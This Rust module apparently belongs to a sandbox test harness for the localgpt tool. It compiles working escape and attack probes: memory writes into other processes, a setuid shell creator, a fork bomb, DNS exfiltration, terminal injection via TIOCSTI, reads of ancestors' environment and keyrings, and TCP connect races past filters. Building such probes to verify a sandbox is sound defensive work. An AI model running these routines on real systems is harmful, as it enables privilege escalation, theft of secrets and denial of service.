//! Probes: attack functions compiled into the `localgpt` binary (hidden `localgpt sandbox probe
//! NAME ARGS…`), so that `localgpt sandbox test --full` works on a machine with no compiler.
//!
//! Each probe prints [`STARTED`] first (proof that the command really ran), then makes its
//! attempt with raw syscalls where that matters (i386 `int 0x80`, x32 numbers, io_uring rings)
//! and prints what it got. Its own report is informative only: the harness decides from outside.
//! Exit code: 0 the attempt succeeded as far as the probe can tell, 1 it failed, 2 bad usage, 3
//! the probe does not exist on this OS or architecture ([`available_here`]).
//!
//! `@VICTIM_PID@`, `@VICTIM_MARKER@` and `@VICTIM_SECRET@` in a command are replaced by the
//! victim process ([`victim_main`]) before it starts the command.

// The probes are attack code: each `unsafe fn` is one raw sequence of system calls on buffers it
// owns, and the note above `dispatch` covers every block. The workspace lints ask every other
// module for one `unsafe` block per operation, each with its own SAFETY comment.
#![allow(unsafe_op_in_unsafe_fn, clippy::undocumented_unsafe_blocks)]

#![allow(clippy::missing_safety_doc)]

use std::ffi::CString;
use std::io::Write;
use std::sync::atomic::{AtomicU32, Ordering};

/// First line of every probe's output.
pub const STARTED: &str = "LGPROBE-STARTED";

/// The name (`/proc/PID/comm`) a lingering probe takes once its effect is complete (every
/// descriptor opened, every process forked): the harness's monitor, which samples from outside,
/// ends the run one full sample after it sees this name, instead of waiting for the vector's
/// timeout. So the timeout no longer races the effect on a slow machine (a TCG guest), and a
/// generous timeout costs nothing when the probe gets there in time.
pub const HELD_COMM: &str = "lgprobe-held";

/// Every probe name (the corpus is validated against this list).
pub const NAMES: &[&str] = &[
    "write-file", "append-file", "unlink", "read-file", "symlink-write", "hardlink-write", "rename", "truncate",
    "chmod", "chown", "utime", "setxattr", "stat", "tcp-connect", "udp-send", "dns-exfil", "raw-udp",
    "netlink-addaddr", "unix-connect", "unix-dgram", "abstract-connect", "abstract-dgram", "unix-raw", "abstract-raw",
    "io-uring-socket",
    "io-uring-openat", "x32-connect", "ia32-connect", "ia32-write", "ptrace-poke", "vm-writev", "procmem-write",
    "vm-readv", "read-ancestors-environ", "signal", "pidfd-signal", "signal-via", "prlimit", "deprioritize", "sigio", "userns", "fork-bomb", "survivor", "open-fds",
    "core-dump", "write-flood", "write-big", "tiocsti", "tioclinux-kmsg", "shm-read", "shm-write", "msg-recv",
    "sem-op", "keyring-read", "open-by-handle", "setid-file", "sethostname", "fd-write", "fd-read", "fd-dir-write",
    "fd-opath-reopen", "inotify-watch", "unix-connect-race", "unix-connect-replaced", "unix-listen-swap", "abstract-listen",
    "tcp-reuseport", "tcp-fastopen", "tcp-connect-race", "tcp-listen-any", "loop-add", "memory-hog",
    "in-thread", "in-thread-own-fds", "tcp-listen-any6",
];

fn c(s: &str) -> CString {
    CString::new(s.as_bytes()).unwrap_or_default()
}

fn errno() -> std::io::Error {
    std::io::Error::last_os_error()
}

fn say(s: &str) {
    let mut o = std::io::stdout().lock();
    let _ = writeln!(o, "{s}");
    let _ = o.flush();
}

fn result(ok: bool, what: &str) -> i32 {
    if ok {
        say(&format!("ESCAPED? {what}: succeeded"));
        0
    } else {
        say(&format!("blocked? {what}: {}", errno()));
        1
    }
}

fn num<T: std::str::FromStr>(s: &str) -> Option<T> {
    if let Some(h) = s.strip_prefix("0x") {
        return u64::from_str_radix(h, 16).ok().and_then(|v| v.to_string().parse().ok());
    }
    s.parse().ok()
}

/// Probes that only exist on Linux (its system calls, /proc, namespaces, io_uring, keyrings,
/// abstract sockets, TIOCLINUX, …).
pub const LINUX_ONLY: &[&str] = &[
    "setxattr", "raw-udp", "netlink-addaddr", "abstract-connect", "abstract-dgram", "unix-raw", "abstract-raw", "io-uring-socket",
    "io-uring-openat", "ptrace-poke", "vm-writev", "procmem-write", "vm-readv", "read-ancestors-environ", "pidfd-signal", "signal-via", "prlimit", "deprioritize", "sigio", "userns",
    "tiocsti", "tioclinux-kmsg", "msg-recv", "keyring-read", "open-by-handle", "sethostname", "fd-opath-reopen", "inotify-watch",
    "abstract-listen", "tcp-fastopen", "loop-add", "in-thread-own-fds", "tcp-listen-any6",
];

/// Probes of x86_64's other system call ABIs (x32, i386 through `int 0x80`).
pub const X86_64_ONLY: &[&str] = &["x32-connect", "ia32-connect", "ia32-write"];

/// Whether probe `name` exists on this OS and architecture; `Err` says why not (the vector is
/// then skipped, and counted, with that reason).
///
/// # Errors
/// The reason the probe cannot run here.
pub fn available_here(name: &str) -> Result<(), String> {
    if LINUX_ONLY.contains(&name) && !cfg!(target_os = "linux") {
        return Err(format!("probe {name} is Linux-only (its system call or interface does not exist on {})", std::env::consts::OS));
    }
    if X86_64_ONLY.contains(&name) && !(cfg!(target_os = "linux") && cfg!(target_arch = "x86_64")) {
        return Err(format!("probe {name} uses x86_64's other system call ABIs; this is {} on {}", std::env::consts::ARCH, std::env::consts::OS));
    }
    Ok(())
}

/// Runs probe `name`; returns the process exit code.
#[must_use]
pub fn run(name: &str, args: &[String]) -> i32 {
    if name == "__victim" {
        return victim_main(args);
    }
    if let Err(why) = available_here(name) {
        eprintln!("{why}");
        return 3;
    }
    say(STARTED);
    let a = |i: usize| args.get(i).map(String::as_str).unwrap_or("");
    let r = std::panic::catch_unwind(|| dispatch(name, args));
    match r {
        Ok(Some(code)) => code,
        Ok(None) => {
            eprintln!("probe {name}: bad usage ({} args: {:?}); first arg {:?}", args.len(), args, a(0));
            2
        }
        Err(_) => 2,
    }
}

// SAFETY (whole module): the probes are deliberately low-level; every unsafe block passes valid
// pointers to buffers that outlive the call.
#[allow(clippy::too_many_lines)]
fn dispatch(name: &str, args: &[String]) -> Option<i32> {
    let a = |i: usize| args.get(i).map(String::as_str);
    unsafe {
        Some(match name {
            "write-file" => open_write(a(0)?, a(1)?, libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC),
            "append-file" => open_write(a(0)?, a(1)?, libc::O_WRONLY | libc::O_CREAT | libc::O_APPEND),
            "unlink" => result(libc::unlink(c(a(0)?).as_ptr()) == 0, "unlink"),
            "read-file" => read_print(a(0)?),
            "symlink-write" => {
                let ok = libc::symlink(c(a(0)?).as_ptr(), c(a(1)?).as_ptr()) == 0;
                say(&format!("symlink: {}", if ok { "ok".into() } else { errno().to_string() }));
                open_write(a(1)?, a(2)?, libc::O_WRONLY | libc::O_TRUNC)
            }
            "hardlink-write" => {
                let ok = libc::link(c(a(0)?).as_ptr(), c(a(1)?).as_ptr()) == 0;
                say(&format!("link: {}", if ok { "ok".into() } else { errno().to_string() }));
                open_write(a(1)?, a(2)?, libc::O_WRONLY | libc::O_TRUNC)
            }
            "rename" => result(libc::rename(c(a(0)?).as_ptr(), c(a(1)?).as_ptr()) == 0, "rename"),
            "truncate" => result(libc::truncate(c(a(0)?).as_ptr(), 0) == 0, "truncate"),
            "chmod" => result(libc::chmod(c(a(0)?).as_ptr(), libc::mode_t::from_str_radix(a(1)?, 8).ok()?) == 0, "chmod"),
            "chown" => result(libc::chown(c(a(0)?).as_ptr(), num(a(1)?)?, num(a(2)?)?) == 0, "chown"),
            "utime" => {
                let ts = [libc::timespec { tv_sec: 0, tv_nsec: 0 }; 2];
                result(libc::utimensat(libc::AT_FDCWD, c(a(0)?).as_ptr(), ts.as_ptr(), 0) == 0, "utimensat")
            }
            #[cfg(target_os = "linux")]
            "setxattr" => {
                let v = a(2)?;
                result(libc::setxattr(c(a(0)?).as_ptr(), c(a(1)?).as_ptr(), v.as_ptr().cast(), v.len(), 0) == 0, "setxattr")
            }
            "stat" => {
                let mut st: libc::stat = std::mem::zeroed();
                if libc::stat(c(a(0)?).as_ptr(), &mut st) == 0 {
                    say(&format!("ino={} size={}", st.st_ino, st.st_size));
                    0
                } else {
                    result(false, "stat")
                }
            }
            "tcp-connect" => tcp_connect(num(a(0)?)?, a(1)?),
            // Another probe, made from a second thread (the seccomp notification then names a
            // thread, not the process), and with `own-fds` from a thread whose descriptor table is
            // its own (`unshare(CLONE_FILES)`): its descriptors are not the main thread's.
            "in-thread" => in_thread(&args[1..], a(0)?, false)?,
            #[cfg(target_os = "linux")]
            "in-thread-own-fds" => in_thread(&args[1..], a(0)?, true)?,
            "tcp-reuseport" => tcp_reuseport(num(a(0)?)?, a(1)?),
            #[cfg(target_os = "linux")]
            "tcp-fastopen" => tcp_fastopen(num(a(0)?)?, a(1)?),
            "tcp-connect-race" => tcp_connect_race(num(a(0)?)?, a(1)?),
            "tcp-listen-any" => tcp_listen_any(num(a(0)?)?, num(a(1)?)?),
            #[cfg(target_os = "linux")]
            "tcp-listen-any6" => tcp_listen_any6(num(a(0)?)?, num(a(1)?)?, a(2)?)?,
            "udp-send" => udp_send(num(a(0)?)?, a(1)?.as_bytes()),
            "dns-exfil" => {
                let mut q = vec![0x4c, 0x47, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
                for label in a(1)?.split('.') {
                    q.push(label.len().min(63) as u8);
                    q.extend_from_slice(&label.as_bytes()[..label.len().min(63)]);
                }
                q.extend_from_slice(&[0, 0, 16, 0, 1]);
                udp_send(num(a(0)?)?, &q)
            }
            #[cfg(target_os = "linux")]
            "raw-udp" => raw_udp(num(a(0)?)?, a(1)?),
            #[cfg(target_os = "linux")]
            "netlink-addaddr" => netlink_addaddr(a(0)?),
            "unix-connect" => unix_stream(a(0)?.as_bytes(), false, a(1)?),
            "unix-connect-race" => unix_connect_race(a(0)?, a(1)?, a(2)?),
            "unix-connect-replaced" => {
                // The granted socket's path replaced by a link to another socket, then connected.
                let _ = std::fs::remove_file(a(0)?);
                if let Err(e) = std::os::unix::fs::symlink(a(1)?, a(0)?) {
                    say(&format!("symlink: {e}"));
                }
                unix_stream(a(0)?.as_bytes(), false, a(2)?)
            }
            "unix-listen-swap" => unix_listen_swap(a(0)?, a(1)?),
            #[cfg(target_os = "linux")]
            "abstract-connect" => unix_stream(a(0)?.as_bytes(), true, a(1)?),
            #[cfg(target_os = "linux")]
            "abstract-listen" => abstract_listen(a(0)?.as_bytes(), num(a(1)?)?),
            "unix-dgram" => unix_dgram(a(0)?.as_bytes(), false, a(1)?, libc::SOCK_DGRAM),
            #[cfg(target_os = "linux")]
            "abstract-dgram" => unix_dgram(a(0)?.as_bytes(), true, a(1)?, libc::SOCK_DGRAM),
            #[cfg(target_os = "linux")]
            "unix-raw" => unix_dgram(a(0)?.as_bytes(), false, a(1)?, libc::SOCK_RAW),
            #[cfg(target_os = "linux")]
            "abstract-raw" => unix_dgram(a(0)?.as_bytes(), true, a(1)?, libc::SOCK_RAW),
            #[cfg(target_os = "linux")]
            "io-uring-socket" => uring::socket_connect(num(a(0)?)?, a(1)?),
            #[cfg(target_os = "linux")]
            "io-uring-openat" => uring::open_write(a(0)?, a(1)?),
            #[cfg(all(target_os = "linux", target_arch = "x86_64"))]
            "x32-connect" => x32_connect(num(a(0)?)?, a(1)?),
            #[cfg(all(target_os = "linux", target_arch = "x86_64"))]
            "ia32-connect" => ia32::connect(num(a(0)?)?, a(1)?),
            #[cfg(all(target_os = "linux", target_arch = "x86_64"))]
            "ia32-write" => ia32::write_file(a(0)?, a(1)?),
            #[cfg(target_os = "linux")]
            "ptrace-poke" => ptrace_poke(num(a(0)?)?, num(a(1)?)?),
            #[cfg(target_os = "linux")]
            "vm-writev" => {
                let data = *b"PWNED!!!";
                let local = libc::iovec { iov_base: data.as_ptr() as *mut _, iov_len: 8 };
                let remote = libc::iovec { iov_base: num::<u64>(a(1)?)? as usize as *mut _, iov_len: 8 };
                result(libc::process_vm_writev(num(a(0)?)?, &local, 1, &remote, 1, 0) == 8, "process_vm_writev")
            }
            #[cfg(target_os = "linux")]
            "procmem-write" => {
                let fd = libc::open(c(&format!("/proc/{}/mem", a(0)?)).as_ptr(), libc::O_RDWR);
                if fd < 0 {
                    return Some(result(false, "open /proc/PID/mem"));
                }
                let addr: u64 = num(a(1)?)?;
                result(libc::pwrite(fd, b"PWNED!!!".as_ptr().cast(), 8, addr as i64) == 8, "pwrite /proc/PID/mem")
            }
            #[cfg(target_os = "linux")]
            "vm-readv" => {
                let mut buf = [0u8; 64];
                let local = libc::iovec { iov_base: buf.as_mut_ptr().cast(), iov_len: 64 };
                let remote = libc::iovec { iov_base: num::<u64>(a(1)?)? as usize as *mut _, iov_len: 64 };
                let n = libc::process_vm_readv(num(a(0)?)?, &local, 1, &remote, 1, 0);
                if n > 0 {
                    say(&format!("read: {}", String::from_utf8_lossy(&buf[..n as usize])));
                }
                result(n > 0, "process_vm_readv")
            }
            #[cfg(target_os = "linux")]
            "read-ancestors-environ" => read_ancestors_environ(),
            "signal" => result(libc::kill(num(a(0)?)?, num(a(1)?)?) == 0, "kill"),
            #[cfg(target_os = "linux")]
            "prlimit" => {
                // prlimit64(PID, RESOURCE, {VALUE, VALUE}, NULL): both limits of another process.
                let v: u64 = num(a(2)?)?;
                let lim = libc::rlimit64 { rlim_cur: v, rlim_max: v };
                let r = libc::syscall(libc::SYS_prlimit64, num::<i32>(a(0)?)?, num::<i32>(a(1)?)?, &raw const lim, std::ptr::null_mut::<libc::rlimit64>());
                result(r == 0, "prlimit64")
            }
            #[cfg(target_os = "linux")]
            "sigio" => {
                // F_SETOWN a pipe's read end to PID, O_ASYNC, write: the kernel sends SIGIO to PID.
                let mut p = [0i32; 2];
                if libc::pipe(p.as_mut_ptr()) != 0 {
                    return Some(result(false, "pipe"));
                }
                let own = libc::fcntl(p[0], libc::F_SETOWN, num::<i32>(a(0)?)?) == 0;
                say(&format!("F_SETOWN: {}", if own { "ok".to_string() } else { errno().to_string() }));
                let fl = libc::fcntl(p[0], libc::F_GETFL);
                let ok = own && libc::fcntl(p[0], libc::F_SETFL, fl | libc::O_ASYNC) == 0 && libc::write(p[1], b"x".as_ptr().cast(), 1) == 1;
                std::thread::sleep(std::time::Duration::from_millis(50));
                result(ok, "SIGIO through F_SETOWN (whether it arrived is checked from outside)")
            }
            #[cfg(target_os = "linux")]
            "deprioritize" => {
                // setpriority(PRIO_PROCESS, PID, 19), sched_setscheduler(PID, SCHED_IDLE), then the
                // idle I/O class.
                let pid: i32 = num(a(0)?)?;
                let nice = libc::setpriority(libc::PRIO_PROCESS, pid as libc::id_t, 19) == 0;
                say(&format!("setpriority: {}", if nice { "ok".to_string() } else { errno().to_string() }));
                let param = libc::sched_param { sched_priority: 0 };
                let idle = libc::sched_setscheduler(pid, libc::SCHED_IDLE, &raw const param) == 0;
                say(&format!("sched_setscheduler: {}", if idle { "ok".to_string() } else { errno().to_string() }));
                // ioprio_set(IOPRIO_WHO_PROCESS, PID, IOPRIO_CLASS_IDLE << 13)
                let io = libc::syscall(libc::SYS_ioprio_set, 1, pid, 3 << 13) == 0;
                say(&format!("ioprio_set: {}", if io { "ok".to_string() } else { errno().to_string() }));
                result(nice || idle || io, "deprioritize")
            }
            #[cfg(target_os = "linux")]
            "pidfd-signal" => {
                let fd = libc::syscall(libc::SYS_pidfd_open, num::<i32>(a(0)?)?, 0) as i32;
                if fd < 0 {
                    return Some(result(false, "pidfd_open"));
                }
                let sig: i32 = num(a(1)?)?;
                result(libc::syscall(libc::SYS_pidfd_send_signal, fd, sig, 0usize, 0) == 0, "pidfd_send_signal")
            }
            #[cfg(target_os = "linux")]
            "signal-via" => signal_via(a(0)?, num(a(1)?)?, num(a(2)?)?),
            #[cfg(target_os = "linux")]
            "userns" => userns(a(1)?),
            "fork-bomb" => {
                if a(2) == Some("leave-cgroups") {
                    leave_cgroups();
                }
                fork_bomb(num(a(1)?)?)
            }
            "survivor" => survivor(a(1)?),
            "open-fds" => open_fds(num(a(1)?)?),
            "core-dump" => core_dump(),
            "write-flood" => write_flood(num(a(0)?)?),
            "memory-hog" => memory_hog(num(a(1)?)?, num(a(2)?)?),
            "write-big" => write_big(a(0)?, num(a(1)?)?),
            #[cfg(target_os = "linux")]
            "tiocsti" => tiocsti(a(0)?, a(1)?, a(2) == Some("highbits")),
            #[cfg(target_os = "linux")]
            "tioclinux-kmsg" => tioclinux_kmsg(num(a(0)?)?, a(1) == Some("highbits")),
            "shm-read" => {
                let p = libc::shmat(num(a(0)?)?, std::ptr::null(), libc::SHM_RDONLY);
                if p as isize == -1 {
                    return Some(result(false, "shmat"));
                }
                let s = std::ffi::CStr::from_ptr(p.cast()).to_string_lossy().into_owned();
                say(&format!("shm: {s}"));
                0
            }
            "shm-write" => {
                let p = libc::shmat(num(a(0)?)?, std::ptr::null(), 0);
                if p as isize == -1 {
                    return Some(result(false, "shmat"));
                }
                std::ptr::copy_nonoverlapping(c"PWNED".as_ptr().cast::<u8>(), p.cast::<u8>(), 6);
                result(true, "shm write")
            }
            #[cfg(target_os = "linux")]
            "msg-recv" => {
                let mut buf = [0u8; 8 + 256];
                let n = libc::msgrcv(num(a(0)?)?, buf.as_mut_ptr().cast(), 256, 0, libc::IPC_NOWAIT);
                if n > 0 {
                    say(&format!("msg: {}", String::from_utf8_lossy(&buf[8..8 + n as usize])));
                }
                result(n > 0, "msgrcv")
            }
            "sem-op" => {
                let mut op = libc::sembuf { sem_num: 0, sem_op: -1, sem_flg: libc::IPC_NOWAIT as i16 };
                result(libc::semop(num(a(0)?)?, &mut op, 1) == 0, "semop")
            }
            #[cfg(target_os = "linux")]
            "keyring-read" => keyring_read(a(0)?),
            #[cfg(target_os = "linux")]
            "loop-add" => loop_add(num(a(0)?)?),
            #[cfg(target_os = "linux")]
            "open-by-handle" => open_by_handle(a(0)?, a(1)?),
            "setid-file" => {
                let fd = libc::open(c(a(0)?).as_ptr(), libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC, 0o755);
                if fd >= 0 {
                    libc::write(fd, b"#!/bin/sh\nexec /bin/sh -p\n".as_ptr().cast(), 25);
                }
                let r1 = fd >= 0 && libc::fchmod(fd, 0o6755) == 0;
                let r2 = libc::chmod(c(a(0)?).as_ptr(), 0o4755) == 0;
                // Creating the file setuid directly: open(O_CREAT), openat2 (mode in memory), mknod.
                let umask = libc::umask(0);
                let r3 = libc::open(c(&format!("{}-open", a(0)?)).as_ptr(), libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL, 0o4755) >= 0;
                let how: [u64; 3] = [(libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL) as u64, 0o4755, 0];
                let r4 = libc::syscall(437, libc::AT_FDCWD, c(&format!("{}-openat2", a(0)?)).as_ptr(), how.as_ptr(), 24usize) >= 0;
                let r5 = libc::mknod(c(&format!("{}-mknod", a(0)?)).as_ptr(), libc::S_IFREG | 0o4755, 0) == 0;
                libc::umask(umask);
                say(&format!("fchmod {r1} chmod {r2} open {r3} openat2 {r4} mknod {r5}"));
                result(r1 || r2 || r3 || r4 || r5, "setuid file")
            }
            #[cfg(target_os = "linux")]
            "sethostname" => {
                let n = a(0)?;
                result(libc::sethostname(n.as_ptr().cast(), n.len()) == 0, "sethostname")
            }
            "fd-write" => {
                let d = a(1)?;
                result(libc::write(num(a(0)?)?, d.as_ptr().cast(), d.len()) == d.len() as isize, "write(inherited fd)")
            }
            "fd-read" => {
                let mut buf = [0u8; 4096];
                let n = libc::pread(num(a(0)?)?, buf.as_mut_ptr().cast(), buf.len(), 0);
                if n > 0 {
                    say(&format!("read: {}", String::from_utf8_lossy(&buf[..n as usize])));
                }
                result(n > 0, "read(inherited fd)")
            }
            "fd-dir-write" => {
                let fd = libc::openat(num(a(0)?)?, c(a(1)?).as_ptr(), libc::O_WRONLY | libc::O_TRUNC | libc::O_CREAT, 0o644);
                write_fd(fd, a(2)?, "openat(inherited dir fd)")
            }
            #[cfg(target_os = "linux")]
            "fd-opath-reopen" => {
                let fd = libc::open(c(&format!("/proc/self/fd/{}", a(0)?)).as_ptr(), libc::O_WRONLY | libc::O_TRUNC);
                write_fd(fd, a(1)?, "reopen O_PATH fd via /proc/self/fd")
            }
            #[cfg(target_os = "linux")]
            "inotify-watch" => inotify_watch(a(0)?, num(a(1)?)?),
            _ => return None,
        })
    }
}

unsafe fn write_fd(fd: i32, data: &str, what: &str) -> i32 {
    if fd < 0 {
        return result(false, what);
    }
    let ok = libc::write(fd, data.as_ptr().cast(), data.len()) == data.len() as isize;
    libc::close(fd);
    result(ok, what)
}

unsafe fn open_write(path: &str, data: &str, flags: i32) -> i32 {
    write_fd(libc::open(c(path).as_ptr(), flags, 0o644), data, &format!("write {path}"))
}

fn read_print(path: &str) -> i32 {
    match std::fs::read(path) {
        Ok(b) => {
            say(&format!("read {path}: {}", String::from_utf8_lossy(&b)));
            0
        }
        Err(e) => {
            say(&format!("blocked? read {path}: {e}"));
            1
        }
    }
}

fn sockaddr_in(port: u16) -> libc::sockaddr_in {
    // SAFETY: a zeroed sockaddr_in is valid.
    let mut sa: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    sa.sin_family = libc::AF_INET as libc::sa_family_t;
    sa.sin_port = port.to_be();
    sa.sin_addr = libc::in_addr { s_addr: u32::from_be_bytes([127, 0, 0, 1]).to_be() };
    #[cfg(target_os = "macos")]
    {
        sa.sin_len = 16;
    }
    sa
}

unsafe fn tcp_connect(port: u16, data: &str) -> i32 {
    let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
    if fd < 0 {
        return result(false, "socket(AF_INET)");
    }
    let sa = sockaddr_in(port);
    if libc::connect(fd, (&sa as *const libc::sockaddr_in).cast(), std::mem::size_of_val(&sa) as u32) != 0 {
        return result(false, "connect");
    }
    write_fd(fd, data, "tcp send")
}

/// A TCP listener of the probe on `addr` (`None`: the call that failed was said).
unsafe fn tcp_listener_on(addr: &libc::sockaddr_in, reuseport: bool) -> Option<i32> {
    let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
    if fd < 0 {
        say(&format!("socket(AF_INET): {}", errno()));
        return None;
    }
    let one: libc::c_int = 1;
    if reuseport && libc::setsockopt(fd, libc::SOL_SOCKET, libc::SO_REUSEPORT, (&one as *const libc::c_int).cast(), 4) != 0 {
        say(&format!("SO_REUSEPORT: {}", errno()));
    }
    if libc::bind(fd, (addr as *const libc::sockaddr_in).cast(), std::mem::size_of::<libc::sockaddr_in>() as u32) != 0 {
        say(&format!("bind: {}", errno()));
        return None;
    }
    if libc::listen(fd, 128) != 0 {
        say(&format!("listen: {}", errno()));
        return None;
    }
    libc::fcntl(fd, libc::F_SETFL, libc::O_NONBLOCK);
    Some(fd)
}

/// Shares the port of a host service that listens with SO_REUSEPORT (same user): a listener of
/// the probe's own on that port, which it may connect to, and the kernel spreads the
/// connections over both sockets. Connects 64 times and writes `data` on each connection.
unsafe fn tcp_reuseport(port: u16, data: &str) -> i32 {
    let own = tcp_listener_on(&sockaddr_in(port), true);
    let sa = sockaddr_in(port);
    let mut ok = 0;
    for _ in 0..64 {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        if fd >= 0 && libc::connect(fd, (&sa as *const libc::sockaddr_in).cast(), 16) == 0 {
            ok += 1;
            libc::write(fd, data.as_ptr().cast(), data.len());
        }
        libc::close(fd);
        if let Some(l) = own {
            drain_accepts(l);
        }
    }
    say(&format!("{ok} of 64 connect(s) succeeded (own listener or the service)"));
    result(ok > 0, "connect to a port shared with SO_REUSEPORT")
}

/// Connects with TCP Fast Open: `sendto(MSG_FASTOPEN)` sends the SYN with `data` on an
/// unconnected socket, without `connect`.
#[cfg(target_os = "linux")]
unsafe fn tcp_fastopen(port: u16, data: &str) -> i32 {
    let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
    if fd < 0 {
        return result(false, "socket(AF_INET)");
    }
    let sa = sockaddr_in(port);
    let n = libc::sendto(fd, data.as_ptr().cast(), data.len(), libc::MSG_FASTOPEN, (&sa as *const libc::sockaddr_in).cast(), 16);
    if n < 0 {
        return result(false, "sendto(MSG_FASTOPEN)");
    }
    std::thread::sleep(std::time::Duration::from_millis(100));
    result(true, "sendto(MSG_FASTOPEN)")
}

/// Reaches the TCP service on `port` past a runner that connects only to the probe's own
/// listener: one thread flips the shared address between the own listener's port and `port`
/// while this one connects with it again and again, writing `data` on each connection.
///
/// It stops at the first connection whose peer is the service (the escape is proven; the
/// harness checks it from outside), and each connect waits at most 200 ms: nobody accepts on the
/// service while the probe runs, so once its backlog is full a blocking connect would wait on
/// SYN retransmissions until the vector's timeout, with the flipping thread spinning a CPU.
unsafe fn tcp_connect_race(port: u16, data: &str) -> i32 {
    use std::sync::atomic::{AtomicBool, Ordering};
    let Some(own) = tcp_listener_on(&sockaddr_in(0), false) else { return result(false, "own listener") };
    let mut me: libc::sockaddr_in = std::mem::zeroed();
    let mut ml = 16u32;
    libc::getsockname(own, (&mut me as *mut libc::sockaddr_in).cast(), &mut ml);
    let (a, b) = (sockaddr_in(u16::from_be(me.sin_port)), sockaddr_in(port));
    let shared: &'static mut libc::sockaddr_in = Box::leak(Box::new(a));
    let addr = shared as *mut libc::sockaddr_in as usize;
    let stop: &'static AtomicBool = Box::leak(Box::new(AtomicBool::new(false)));
    let flipper = std::thread::spawn(move || {
        let mut flip = false;
        while !stop.load(Ordering::Relaxed) {
            std::ptr::write_volatile(addr as *mut libc::sockaddr_in, if flip { b } else { a });
            flip = !flip;
        }
    });
    let (mut ok, mut refused, mut stalled, mut reached) = (0, 0, 0, false);
    for _ in 0..2000 {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        if fd < 0 {
            break;
        }
        libc::fcntl(fd, libc::F_SETFL, libc::O_NONBLOCK);
        let outcome = if libc::connect(fd, addr as *const libc::sockaddr, 16) == 0 {
            Ok(())
        } else {
            match errno().raw_os_error() {
                Some(libc::EINPROGRESS) => connect_finished(fd, 200),
                e => Err(e),
            }
        };
        if outcome.is_ok() {
            ok += 1;
            libc::write(fd, data.as_ptr().cast(), data.len());
            let mut peer: libc::sockaddr_in = std::mem::zeroed();
            let mut pl = 16u32;
            reached = libc::getpeername(fd, (&mut peer as *mut libc::sockaddr_in).cast(), &mut pl) == 0 && u16::from_be(peer.sin_port) == port;
        } else if outcome == Err(None) {
            stalled += 1;
        } else {
            refused += 1;
        }
        libc::close(fd);
        drain_accepts(own);
        if reached {
            break;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let _ = flipper.join();
    say(&format!("race: {ok} connect(s) succeeded (own listener or not), {refused} refused, {stalled} timed out; the service reached: {reached}"));
    result(ok > 0, "connect to the service through the race")
}

/// Waits up to `ms` for the non-blocking connect on `fd` to finish: `Ok` when it connected,
/// else its error (`None`: still pending after `ms`).
unsafe fn connect_finished(fd: i32, ms: i32) -> Result<(), Option<i32>> {
    let mut p = libc::pollfd { fd, events: libc::POLLOUT, revents: 0 };
    if libc::poll(&mut p, 1, ms) != 1 {
        return Err(None);
    }
    let mut err: libc::c_int = 0;
    let mut len = std::mem::size_of::<libc::c_int>() as libc::socklen_t;
    if libc::getsockopt(fd, libc::SOL_SOCKET, libc::SO_ERROR, (&mut err as *mut libc::c_int).cast(), &mut len) != 0 {
        return Err(errno().raw_os_error());
    }
    if err == 0 { Ok(()) } else { Err(Some(err)) }
}

/// Probe `inner` with `args`, run on a new thread, and with `own_fds` from a thread whose
/// descriptor table is its own (`unshare(CLONE_FILES)`): the main thread then holds TCP sockets
/// (decoys) at the numbers the thread's own first descriptors get, so that a runner that took
/// the main thread's descriptor would act on another socket. `None`: bad usage.
fn in_thread(args: &[String], inner: &str, own_fds: bool) -> Option<i32> {
    if !NAMES.contains(&inner) || inner.starts_with("in-thread") {
        return None;
    }
    // SAFETY: plain sockets, owned by this process until it exits.
    let decoys: Vec<i32> = if own_fds { (0..4).map(|_| unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0) }).filter(|&fd| fd >= 0).collect() } else { Vec::new() };
    let (inner, args) = (inner.to_owned(), args.to_vec());
    let worker = std::thread::spawn(move || {
        #[cfg(target_os = "linux")]
        if own_fds {
            // SAFETY: this thread's table becomes its own; the decoys are closed in it only.
            unsafe {
                if libc::unshare(libc::CLONE_FILES) != 0 {
                    return Some(result(false, "unshare(CLONE_FILES)"));
                }
                for fd in &decoys {
                    libc::close(*fd);
                }
            }
        }
        let _ = &decoys;
        say(&format!("in a thread{}", if own_fds { " with a descriptor table of its own" } else { "" }));
        dispatch(&inner, &args)
    });
    worker.join().ok().flatten()
}

/// Listens on the wildcard address `0.0.0.0:port` for `secs` seconds and accepts what comes
/// (a host client connects to the host's non-loopback address: a server reachable from the
/// network).
unsafe fn tcp_listen_any(port: u16, secs: u64) -> i32 {
    let mut sa = sockaddr_in(port);
    sa.sin_addr = libc::in_addr { s_addr: 0 };
    let Some(l) = tcp_listener_on(&sa, false) else { return result(false, "listen on 0.0.0.0") };
    let accepted = accept_for(&[l], secs);
    say(&format!("{accepted} connection(s) accepted"));
    result(accepted > 0, "listen on the wildcard address")
}

/// Listens on the dual-stack wildcard `[::]:port` (`IPV6_V6ONLY` off: IPv4 connections too)
/// for `secs` seconds and accepts what comes, as a server's default (`python3 -m http.server`,
/// Node's `listen(port)`) does. `how`: `plain`; `detach` (after bind, drop and unlock any
/// socket filter, and attach one that keeps everything); `prelock` (before bind, lock a filter
/// that keeps everything on the socket, so that no other can be attached). `None`: bad usage.
#[cfg(target_os = "linux")]
unsafe fn tcp_listen_any6(port: u16, secs: u64, how: &str) -> Option<i32> {
    if !["plain", "detach", "prelock"].contains(&how) {
        return None;
    }
    let fd = libc::socket(libc::AF_INET6, libc::SOCK_STREAM, 0);
    if fd < 0 {
        return Some(result(false, "socket(AF_INET6)"));
    }
    let (zero, one): (libc::c_int, libc::c_int) = (0, 1);
    let int = |v: &libc::c_int| (v as *const libc::c_int).cast();
    libc::setsockopt(fd, libc::IPPROTO_IPV6, libc::IPV6_V6ONLY, int(&zero), 4);
    let mut keep = [libc::sock_filter { code: (libc::BPF_RET | libc::BPF_K) as u16, jt: 0, jf: 0, k: u32::MAX }];
